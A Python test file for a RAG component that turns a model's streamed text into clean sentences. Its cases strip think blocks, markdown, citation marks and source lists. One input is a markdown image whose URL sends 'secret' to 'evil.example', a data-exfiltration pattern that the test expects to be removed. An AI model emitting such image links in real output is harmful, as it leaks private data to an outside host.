"""From a model's stream to sentences of plain prose."""

from __future__ import annotations

import sys
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.llm.citation_marks import MarkParser
from rag.llm.clean_stream import ModelText, SentenceStream


def read(text: str, size: int = 0, keys: frozenset[str] = frozenset()) -> tuple[str, list[str]]:
    model = ModelText(MarkParser(keys))
    shown = "".join(model.feed(text[i : i + size]) for i in range(0, len(text), size)) if size else model.feed(text)
    return shown + model.close(), model.sentences


@pytest.mark.parametrize(
    ("text", "sentences"),
    [
        ("One came. Two left.", ["One came.", "Two left."]),
        ("<think>Hm. I wonder [a1b2c3]…</think>\n\nOne came.", ["One came."]),
        ("**One** came.\n\n## Two\n\n- Three left.\n* Four `stayed`.",
         ["One came.", "Three left.", "Four stayed."]),
        ("1. One came.\n2. Two left.", ["One came.", "Two left."]),
        ("One ![x](https://evil.example/?q=secret) came to [the town](https://a.example).",
         ["One x came to the town."]),
        ("He left. [a1b2c3] \"Yes,\" he said.", ["He left.", "\"Yes,\" he said."]),
        ("Answer: **One** came [a1b2c3].\n\nLet me know if you need more!", ["One came."]),
        ("Wait. Did one?\n</think>\n\nOne came.</s>", ["One came."]),
        ("One came [a1b2c3]. [a1b2c3]\n\nSources:\n[a1b2c3] A title.", ["One came."]),
        ("Mr. Rutte paid $1.5 million. He left at 5 p.m. on Monday.",
         ["Mr. Rutte paid $1.5 million.", "He left at 5 p.m. on Monday."]),
        ("He said: “One came. Two left.” And went.", ["He said: “One came. Two left.”", "And went."]),
        ("...\n\n---", []),
        ("=== c360fe0912ab34cd ===\n[a1b2c3] One came.\n=== c360fe0912ab34cd ===", ["One came."]),
        ("=== c360fe0912ab34cd === One came. === c360fe", ["One came."]),
        ("Article: Bridge opens | Reuters | 2024-05-01\n[a1b2c3] One came.", ["One came."]),
        ("Article: 000_10b93e29ba91228a.txt\nOne came.\n000_10b93e29ba91228a.txt", ["One came."]),
        ("One came (000_10b93e29ba91228a.txt). According to towns.txt, two left.", ["One came.", "Two left."]),
        ("Question: Who came?\n\n- Reuters, 2024-05-01: One came.", ["One came."]),
        ("The file towns.txt holds 3 names. On 2024-05-01: one came.",
         ["The file towns.txt holds 3 names.", "On 2024-05-01: one came."]),
        ("<think>never ends", []),
        ("Rutte visited Kyiv <thi", ["Rutte visited Kyiv <thi"]),
        ("", []),
    ],
)  # fmt: skip
@pytest.mark.parametrize("size", [0, 1, 3])
def test_what_models_write_becomes_sentences(text, sentences, size):
    assert read(text, size, frozenset({"a1b2c3"}))[1] == sentences


def test_a_sentence_is_released_when_the_next_has_begun():
    model = ModelText(MarkParser(()))
    model.feed("One came. Two")
    assert model.sentences == []
    model.feed(" left")
    assert model.sentences == ["One came."]


@given(st.text(st.sampled_from("ab A.!?\n “”1"), max_size=120), st.integers(1, 9))
def test_nothing_but_signs_is_lost(text, size):
    stream = SentenceStream()
    sentences = [s for i in range(0, len(text), size) for s in stream.feed(text[i : i + size])]
    sentences += stream.close()
    assert [c for c in "".join(sentences) if c.isalpha()] == [c for c in text if c.isalpha()]


@pytest.mark.parametrize("unit", ["a", "a ", "A. ", "“", "“a. ", "<think>", "[", "\n", "- "])
def test_twice_as_much_nonsense_is_twice_the_work(unit):
    assert calls(unit * (3_000 // len(unit))) < 2.5 * calls(unit * (1_500 // len(unit)))


def calls(text: str) -> int:
    """How many functions are called to read a text: a measure of work that does not depend on the machine."""
    counted = Counter[str]()
    sys.setprofile(lambda frame, event, argument: counted.update([event]))
    try:
        read(text, 4)
    finally:
        sys.setprofile(None)
    return counted["call"] + counted["c_call"]


def test_an_open_quotation_is_looked_at_now_and_then():
    assert calls("“a. " * 1_000) < 1_000_000


def test_what_was_thought_aloud_is_taken_back():
    model = ModelText(MarkParser(()))
    model.feed("One came. Two left. Three more")
    assert model.sentences == ["One came.", "Two left."]
    assert model.feed(" stayed.</think>Four") == "Four"
    assert model.unsaid
    assert model.sentences == []
    model.feed(" went.")
    model.close()
    assert (model.unsaid, model.sentences) == (False, ["Four went."])


PIECES = ["He left", ". ", " ", "\n", "**", "*", "# ", "- ", "| ", "|-|", "```", "<think>", "</s>", "Sources",
          ":", "[a1b2c3]", "a1b2c3", "3*4", "“", "”", "1. ", "Title", ", ", "=== c360fe"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join), st.integers(1, 9))
def test_however_a_stream_is_cut_the_same_is_shown(text, size):
    keys = frozenset({"a1b2c3"})
    assert read(text, size, keys)[0] == read(text, 0, keys)[0]
